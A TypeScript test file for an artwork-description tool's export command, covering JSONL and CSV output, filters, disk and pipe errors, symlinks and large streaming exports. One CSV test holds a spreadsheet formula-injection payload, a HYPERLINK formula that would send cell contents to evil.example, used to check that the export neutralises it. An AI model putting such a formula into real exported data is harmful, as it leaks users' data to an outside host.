import { spawn, spawnSync } from "node:child_process";
import { once } from "node:events";
import { chmodSync, closeSync, existsSync, lstatSync, mkdirSync, openSync, readdirSync, readFileSync, statSync, symlinkSync, utimesSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { Writable } from "node:stream";
import { afterAll, beforeAll, describe, expect, it, vi } from "vitest";
import { loadConfig } from "../../src/config.js";
import { closeDb } from "../../src/db.js";
import { CSV_COLUMNS, type ExportOptions, type ExportRow, writeExport } from "../../src/export/export.js";
import { createGraphqlApp } from "../../src/graphql/yoga.js";
import { exportCommand } from "../../src/ops/commands.js";
import { insertBulkArtworks } from "../support/bulk.js";
import { createTestDb, onPostgres, type TestDb } from "../support/db.js";
import { addDescription, makeArtwork, makeCreator, makeGoya } from "../support/factories.js";
import { ARTDESC_CLI, commandIo, TextSink } from "../support/cli.js";
import { gql } from "../support/graphql.js";

let t: TestDb;
const config = loadConfig({ ALT_TEXT_MAX_CHARS: "60" });
const LONG = "A queen in a black dress stands before a dark curtain. She holds a fan in her right hand. A small dog sits at her feet.";

beforeAll(async () => {
  t = await createTestDb();
  const goya = await makeGoya(t.db);
  const monet = await makeCreator(t.db, { qid: "Q296", labels: { en: "Claude Monet" } });
  const a = await makeArtwork(t.db, {
    qid: "Q101",
    title: "María Luisa",
    titles: { en: "Queen María Luisa", es: "La reina María Luisa" },
    creators: [{ id: goya.id }],
    description: LONG,
  });
  await t.db.image.updateMany({ where: { artworkId: a.id }, data: { credit: 'Museo del Prado, "Madrid"', artist: "Francisco de Goya" } });
  const b = await makeArtwork(t.db, { qid: "Q102", title: "Lilies", creators: [{ id: monet.id }] });
  await addDescription(t.db, b.id, "Water lilies, green\nand white.", "HUMAN");
  // Commons gave no page address: the export writes it as Commons does.
  await t.db.image.updateMany({ where: { artworkId: b.id }, data: { descriptionUrl: null } });
  await makeArtwork(t.db, { qid: "Q103", title: "Undescribed", creators: [{ id: goya.id, attribution: "WORKSHOP_OF" }], image: false });
  await makeArtwork(t.db, { qid: "Q104", title: "Merged", state: "MERGED", creators: [{ id: goya.id }] });
});

afterAll(() => t.close());

async function exportText(options: Partial<ExportOptions> & Pick<ExportOptions, "format">): Promise<string> {
  const sink = new TextSink();
  await writeExport(t.db, sink, { altTextMaxChars: 60, ...options });
  return sink.text;
}
const jsonl = async (o: Partial<ExportOptions> = {}) =>
  (await exportText({ format: "jsonl", ...o })).trim().split("\n").filter(Boolean).map((l) => JSON.parse(l) as ExportRow);

describe("export", () => {
  it("writes one JSON line per active artwork with everything a museum system ingests", async () => {
    const rows = await jsonl();
    expect(rows.map((r) => r.qid)).toEqual(["Q101", "Q102", "Q103"]);
    const [a, b, c] = rows as [ExportRow, ExportRow, ExportRow];
    expect(a).toMatchObject({
      qid: "Q101",
      wikidataUrl: "https://www.wikidata.org/wiki/Q101",
      state: "ACTIVE",
      title: "María Luisa",
      titles: { en: "Queen María Luisa", es: "La reina María Luisa" },
      creators: [{ qid: "Q5432", label: "Francisco Goya", attribution: "CREATOR" }],
      commonsFile: "File:María Luisa.jpg",
      commonsUrl: "https://commons.wikimedia.org/wiki/File:Mar%C3%ADa_Luisa.jpg",
      licence: "Public domain",
      artist: "Francisco de Goya",
      credit: 'Museo del Prado, "Madrid"',
      description: LONG,
      altText: "A queen in a black dress stands before a dark curtain.",
      language: "en",
      source: "MODEL",
      modelId: "HuggingFaceTB/SmolVLM-500M-Instruct",
      modelRevision: "main",
      parameters: { numBeams: 4, maxNewTokens: 256, targetWords: 150, earlyStopping: "true", imageSplitting: false, device: "cpu" },
    });
    expect(a.parameters!.dtypes).toMatchObject({ decoder_model_merged: "fp32" });
    expect(new Date(a.describedAt!).getTime()).toBeGreaterThan(Date.now() - 600_000);
    expect(b).toMatchObject({ source: "HUMAN", author: "curator", modelId: null, parameters: null, description: "Water lilies, green\nand white." });
    expect(b.commonsUrl).toBe("https://commons.wikimedia.org/wiki/File:Lilies.jpg");
    expect(c).toMatchObject({ qid: "Q103", description: null, altText: null, source: null, commonsFile: null, commonsUrl: null });
    expect(c.creators).toEqual([{ qid: "Q5432", label: "Francisco Goya", attribution: "WORKSHOP_OF" }]);
  });

  it("filters by creator, by date and by state", async () => {
    expect((await jsonl({ creators: ["monet"] })).map((r) => r.qid)).toEqual(["Q102"]);
    expect((await jsonl({ creators: ["Q5432", "claude monet"] })).map((r) => r.qid)).toEqual(["Q101", "Q102", "Q103"]);
    expect(await jsonl({ creators: ["nobody"] })).toEqual([]);
    expect((await jsonl({ includeInactive: true })).map((r) => r.qid)).toEqual(["Q101", "Q102", "Q103", "Q104"]);
    expect(await jsonl({ since: new Date(Date.now() + 60_000) })).toEqual([]);
    const cut = new Date();
    await new Promise((r) => setTimeout(r, 5));
    const q102 = await t.db.artwork.findUniqueOrThrow({ where: { qid: "Q102" } });
    await addDescription(t.db, q102.id, "Water lilies at dusk.", "HUMAN");
    expect((await jsonl({ since: cut })).map((r) => r.qid)).toEqual(["Q102"]);
    // A sync changes a file's licence on its Image row only: the work is exported again.
    const later = new Date();
    await new Promise((r) => setTimeout(r, 5));
    const q101 = await t.db.artwork.findUniqueOrThrow({ where: { qid: "Q101" } });
    await t.db.image.updateMany({ where: { artworkId: q101.id }, data: { licenseShortName: "CC BY-SA 4.0" } });
    const changed = await jsonl({ since: later });
    expect(changed.map((r) => [r.qid, r.licence])).toEqual([["Q101", "CC BY-SA 4.0"]]);
    await t.db.image.updateMany({ where: { artworkId: q101.id }, data: { licenseShortName: "Public domain" } });
  });

  it("writes RFC 4180 CSV with a header and quoted fields", async () => {
    const text = await exportText({ format: "csv", creators: ["Q5432"] });
    const lines = text.split("\r\n");
    expect(lines[0]).toBe(CSV_COLUMNS.join(","));
    expect(text).toContain(`"Museo del Prado, ""Madrid"""`);
    expect(text).toContain(`"{""en"":""Queen María Luisa"",""es"":""La reina María Luisa""}"`);
    expect(lines[1]!.startsWith("Q101,https://www.wikidata.org/wiki/Q101,ACTIVE,María Luisa,")).toBe(true);
    expect(lines.filter(Boolean)).toHaveLength(3);
  });

  it("CSV: a text a spreadsheet would run as a formula gets a leading apostrophe; numbers stay numbers", async () => {
    const dali = await makeCreator(t.db, { qid: "Q5577", labels: { en: "Formula Tester" } });
    const a = await makeArtwork(t.db, { qid: "Q190", title: '=HYPERLINK("http://evil.example/?x="&A2,"click")', creators: [{ id: dali.id }] });
    await addDescription(t.db, a.id, "-2+3 is how the model began.", "HUMAN");
    const text = await exportText({ format: "csv", creators: ["Q5577"] });
    const row = text.split("\r\n")[1]!;
    expect(row).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A2,""click"")"`);
    expect(row).toContain("'-2+3 is how the model began.");
    expect(row).not.toMatch(/,=|,-2/);
    await t.db.artwork.delete({ where: { id: a.id } });
  });

  it("stops with the stream's error when the reader goes away (EPIPE)", async () => {
    const broken = new Writable({
      highWaterMark: 16,
      write: (_chunk, _enc, cb) => cb(Object.assign(new Error("write EPIPE"), { code: "EPIPE" })),
    });
    await expect(writeExport(t.db, broken, { format: "jsonl", altTextMaxChars: 60 })).rejects.toMatchObject({ code: "EPIPE" });
  });

  it("fails with the stream's error when the last chunk, accepted into the buffer, cannot be written (a full disk)", async () => {
    const full = new Writable({
      write: (_chunk, _enc, cb) => setTimeout(() => cb(Object.assign(new Error("write ENOSPC"), { code: "ENOSPC" })), 10),
    });
    full.on("error", () => {});
    await expect(writeExport(t.db, full, { format: "jsonl", altTextMaxChars: 60 })).rejects.toMatchObject({ code: "ENOSPC" });
  });

  it("fails, not hangs, when the output is closed while the export waits for it to drain", async () => {
    const stalled = new Writable({ highWaterMark: 16, write: () => setTimeout(() => stalled.destroy(), 10) });
    await expect(writeExport(t.db, stalled, { format: "jsonl", altTextMaxChars: 60 })).rejects.toThrow(/output closed/);
  });

  it("the export command refuses a bad format or date with exit code 2", async () => {
    const io = commandIo();
    expect(await exportCommand(t.db, config, { format: "xml" }, io)).toBe(2);
    expect(await exportCommand(t.db, config, { format: "csv", since: "last tuesday" }, io)).toBe(2);
    expect(io.stderr.text).toMatch(/Unknown export format "xml"[\s\S]*--since "last tuesday" is not a date/);
    expect(await exportCommand(t.db, config, { format: "jsonl", creator: ["monet", "Goyaa"] }, io)).toBe(2);
    expect(io.stderr.text).toMatch(/--creator "Goyaa" matches no creator in the database; it has .*Claude Monet \(Q296\)/);
    expect(io.stdout.text).toBe("");
    const out = join(t.dir, "out.jsonl");
    expect(await exportCommand(t.db, config, { format: "jsonl", out, since: "2000-01-01" }, io)).toBe(0);
    expect(readFileSync(out, "utf8").trim().split("\n")).toHaveLength(3);
    // An impossible calendar date is refused, not rolled over (2026-02-31 is not 2026-03-03).
    for (const since of ["2026-02-31", "2026-13-01", "2026-01-01T25:00"]) {
      expect(await exportCommand(t.db, config, { format: "jsonl", since }, io), since).toBe(2);
    }
    // A file that cannot be made: the error names the user's path and why, never the part file.
    const nowhere = join(t.dir, "no-such-folder", "x.jsonl");
    expect(await exportCommand(t.db, config, { format: "jsonl", out: nowhere }, io)).toBe(2);
    expect(io.stderr.text).toContain(`--out ${JSON.stringify(nowhere)}: cannot write a file there (its folder does not exist)`);
    expect(io.stderr.text).not.toContain(".part");
    expect(existsSync(join(t.dir, "no-such-folder"))).toBe(false);
  });

  it("a command whose reader went away (artdesc status | true) ends quietly with 0, not with an EPIPE stack", async () => {
    if (onPostgres) return;
    const child = spawn(process.execPath, [ARTDESC_CLI, "status", "--json"], { env: { ...process.env, DATABASE_URL: t.url, LOG_LEVEL: "warn" }, stdio: ["ignore", "pipe", "pipe"] });
    // The reader is gone before the command writes a byte.
    child.stdout.destroy();
    let stderr = "";
    child.stderr.setEncoding("utf8").on("data", (c: string) => (stderr += c));
    const code = await new Promise<number | null>((resolve) => child.on("close", resolve));
    expect(stderr).not.toMatch(/EPIPE|Unhandled/);
    expect(code).toBe(0);
  });

  it("an export sent to a full disk (stdout to /dev/full) says so in one line and exits 1, without a stack", async () => {
    if (onPostgres || !existsSync("/dev/full")) return;
    const full = openSync("/dev/full", "w");
    try {
      const child = spawnSync(process.execPath, [ARTDESC_CLI, "export", "--format", "jsonl"], {
        env: { ...process.env, DATABASE_URL: t.url, LOG_LEVEL: "warn" },
        stdio: ["ignore", full, "pipe"],
        encoding: "utf8",
        timeout: 60_000,
      });
      expect(child.stderr.trim()).toBe("Could not write the output: no space left on the device. What was written so far is incomplete.");
      expect(child.status).toBe(1);
    } finally {
      closeSync(full);
    }
  });

  it("--out: an export that fails leaves the previous file as it was, and no part of the new one", async () => {
    const out = join(t.dir, "kept.jsonl");
    const io = commandIo();
    expect(await exportCommand(t.db, config, { format: "jsonl", out }, io)).toBe(0);
    const before = readFileSync(out, "utf8");
    expect(before.trim().split("\n")).toHaveLength(3);
    const failing = vi.spyOn(t.db, "$queryRawUnsafe").mockRejectedValueOnce(new Error("disk I/O error"));
    try {
      await expect(exportCommand(t.db, config, { format: "jsonl", out }, io)).rejects.toThrow("disk I/O error");
    } finally {
      failing.mockRestore();
    }
    expect(readFileSync(out, "utf8")).toBe(before);
    expect(readdirSync(t.dir).filter((f) => f.startsWith("kept.jsonl"))).toEqual(["kept.jsonl"]);
  });

  it("--out: a link is followed (it stays a link), a file keeps its permissions, a device is written as it is; a folder or an empty name is refused; - is stdout", async () => {
    const dir = join(t.dir, "out-targets");
    mkdirSync(dir, { recursive: true });
    const io = commandIo();
    // A private export stays private.
    const kept = join(dir, "private.jsonl");
    writeFileSync(kept, "old\n");
    chmodSync(kept, 0o600);
    expect(await exportCommand(t.db, config, { format: "jsonl", out: kept }, io)).toBe(0);
    expect(statSync(kept).mode & 0o777).toBe(0o600);
    expect(readFileSync(kept, "utf8").trim().split("\n")).toHaveLength(3);
    // "latest.jsonl" -> "runs/today.jsonl": the export lands in today.jsonl and the link stays.
    mkdirSync(join(dir, "runs"));
    symlinkSync(join("runs", "today.jsonl"), join(dir, "latest.jsonl"));
    expect(await exportCommand(t.db, config, { format: "jsonl", out: join(dir, "latest.jsonl") }, io)).toBe(0);
    expect(lstatSync(join(dir, "latest.jsonl")).isSymbolicLink()).toBe(true);
    expect(readFileSync(join(dir, "runs", "today.jsonl"), "utf8").trim().split("\n")).toHaveLength(3);
    // A folder: refused before anything is written.
    const folder = commandIo();
    expect(await exportCommand(t.db, config, { format: "jsonl", out: dir }, folder)).toBe(2);
    expect(folder.stderr.text).toContain(`--out ${JSON.stringify(dir)}: cannot write a file there (it is a folder)`);
    expect(readdirSync(t.dir).filter((f) => f.endsWith(".part"))).toEqual([]);
    // An empty name (an unset variable in a script) is refused; "-" is stdout.
    const empty = commandIo();
    expect(await exportCommand(t.db, config, { format: "jsonl", out: "" }, empty)).toBe(2);
    expect(empty.stderr.text).toContain("--out needs a file name");
    const dash = commandIo();
    expect(await exportCommand(t.db, config, { format: "jsonl", out: "-" }, dash)).toBe(0);
    expect(dash.stdout.text.trim().split("\n")).toHaveLength(3);
    expect(existsSync("-")).toBe(false);
    // A device: written as it is, never replaced; a full one is said in one line, exit 1.
    if (existsSync("/dev/null")) {
      expect(await exportCommand(t.db, config, { format: "jsonl", out: "/dev/null" }, io)).toBe(0);
      expect(lstatSync("/dev/null").isCharacterDevice()).toBe(true);
    }
    if (existsSync("/dev/full")) {
      symlinkSync("/dev/full", join(dir, "full"));
      const full = commandIo();
      expect(await exportCommand(t.db, config, { format: "jsonl", out: join(dir, "full") }, full)).toBe(1);
      expect(full.stderr.text.trim()).toBe("Could not write the output: no space left on the device. What was written so far is incomplete.");
      expect(lstatSync(join(dir, "full")).isSymbolicLink()).toBe(true);
    }
  });

  it("--out sweeps the part files an export killed outright left beside the same file an hour ago or more", async () => {
    const dir = join(t.dir, "parts");
    mkdirSync(dir, { recursive: true });
    const out = join(dir, "goya.jsonl");
    const old = `${out}.12345.k3j2.part`;
    const recent = `${out}.12346.z9y8.part`;
    const other = `${out}.12347.notes`;
    for (const f of [old, recent, other]) writeFileSync(f, "half an export");
    const twoHoursAgo = new Date(Date.now() - 2 * 3_600_000);
    utimesSync(old, twoHoursAgo, twoHoursAgo);
    utimesSync(other, twoHoursAgo, twoHoursAgo);
    expect(await exportCommand(t.db, config, { format: "jsonl", out }, commandIo())).toBe(0);
    expect(readdirSync(dir).sort()).toEqual(["goya.jsonl", "goya.jsonl.12346.z9y8.part", "goya.jsonl.12347.notes"]);
  });

  it("--out /dev/stdout is stdout, whatever stdout is (a pipe; a file it appends to, never replaced)", async () => {
    if (onPostgres) return;
    const env = { ...process.env, DATABASE_URL: t.url, LOG_LEVEL: "warn" };
    const piped = spawnSync(process.execPath, [ARTDESC_CLI, "export", "--format", "jsonl", "--out", "/dev/stdout"], { env, encoding: "utf8", timeout: 60_000 });
    expect(piped.status, piped.stderr).toBe(0);
    expect(piped.stdout.trim().split("\n")).toHaveLength(3);
    const log = join(t.dir, "appended.log");
    writeFileSync(log, "header\n");
    const fd = openSync(log, "a");
    try {
      const appended = spawnSync(process.execPath, [ARTDESC_CLI, "export", "--format", "jsonl", "--out", "/dev/stdout"], { env, stdio: ["ignore", fd, "pipe"], encoding: "utf8", timeout: 60_000 });
      expect(appended.status, appended.stderr).toBe(0);
    } finally {
      closeSync(fd);
    }
    const lines = readFileSync(log, "utf8").trim().split("\n");
    expect(lines[0]).toBe("header");
    expect(lines).toHaveLength(4);
  });

  it("--out through links is the file the kernel reaches (a relative link in a linked folder), and a setuid bit is not carried over", async () => {
    const dir = join(t.dir, "links");
    mkdirSync(join(dir, "real", "sub"), { recursive: true });
    mkdirSync(join(dir, "x"));
    writeFileSync(join(dir, "real", "target.jsonl"), "OLD\n");
    symlinkSync(join("..", "real", "sub"), join(dir, "x", "linkdir"));
    symlinkSync(join("..", "target.jsonl"), join(dir, "real", "sub", "link"));
    expect(await exportCommand(t.db, config, { format: "jsonl", out: join(dir, "x", "linkdir", "link") }, commandIo())).toBe(0);
    expect(readFileSync(join(dir, "real", "target.jsonl"), "utf8").trim().split("\n")).toHaveLength(3);
    expect(existsSync(join(dir, "x", "target.jsonl"))).toBe(false);
    const setuid = join(dir, "setuid.jsonl");
    writeFileSync(setuid, "old\n");
    chmodSync(setuid, 0o4755);
    expect(await exportCommand(t.db, config, { format: "jsonl", out: setuid }, commandIo())).toBe(0);
    expect(statSync(setuid).mode & 0o7777).toBe(0o755);
  });

  it("Artwork.altText shortens the current description at a sentence boundary", async () => {
    const yoga = createGraphqlApp({ db: t.db, config });
    const r = await gql(yoga, `{ a: artwork(id: "Q101") { ... on Artwork { altText } } c: artwork(id: "Q103") { ... on Artwork { altText } } }`);
    expect(r.errors).toBeUndefined();
    expect(r.data).toEqual({ a: { altText: "A queen in a black dress stands before a dark curtain." }, c: { altText: null } });
  });
});

describe("export streaming", () => {
  // SQLite-only: the 100,000 rows are written straight into the file by better-sqlite3 (test/support/bulk.ts).
  it.skipIf(onPostgres)("exports 100,000 artworks in a child process whose heap cannot hold them", async () => {
    const big = await createTestDb();
    await closeDb(big.db);
    try {
      insertBulkArtworks(big.file, 100_000, { words: 30, searchIndex: false });
      const out = join(big.dir, "all.jsonl");
      // The output is ~120 MB of JSON; a 64 MB old generation can only hold a page at a time.
      const child = spawnSync(
        process.execPath,
        ["--max-old-space-size=64", ARTDESC_CLI, "export", "--format", "jsonl", "--out", out],
        { env: { ...process.env, DATABASE_URL: big.url, LOG_LEVEL: "warn" }, encoding: "utf8", timeout: 240_000 },
      );
      expect(child.stderr).toContain("exported 100000 artworks");
      expect(child.status).toBe(0);
      const text = readFileSync(out, "utf8");
      expect(text.length).toBeGreaterThan(64 * 1024 * 1024);
      let lines = 0;
      for (let i = text.indexOf("\n"); i !== -1; i = text.indexOf("\n", i + 1)) lines++;
      expect(lines).toBe(100_000);
      expect(JSON.parse(text.slice(text.lastIndexOf("\n", text.length - 2) + 1))).toMatchObject({ qid: "Q1100000", source: "MODEL" });

      // Ctrl-C, or a closed terminal (SIGHUP), while the next export is being written: it ends
      // 130 (129), and leaves no part file behind.
      const parts = () => readdirSync(big.dir).filter((f) => f.endsWith(".part"));
      for (const [sent, exitCode] of [["SIGINT", 130], ["SIGHUP", 129]] as const) {
        const again = spawn(process.execPath, [ARTDESC_CLI, "export", "--format", "jsonl", "--out", out], {
          env: { ...process.env, DATABASE_URL: big.url, LOG_LEVEL: "warn" },
          stdio: ["ignore", "ignore", "pipe"],
        });
        for (const deadline = Date.now() + 60_000; !parts().length && again.exitCode === null && Date.now() < deadline; ) await new Promise((r) => setTimeout(r, 20));
        expect(parts()).toHaveLength(1);
        again.kill(sent);
        const [code, signal] = (await once(again, "exit")) as [number | null, string | null];
        expect({ code, signal }).toEqual({ code: exitCode, signal: null });
        expect(parts()).toEqual([]);
      }
      // The finished export from before is untouched.
      expect(readFileSync(out, "utf8").length).toBe(text.length);
    } finally {
      await big.close();
    }
    // About 10 s on an idle 2-core machine; generous for a shared one.
  }, 300_000);
});
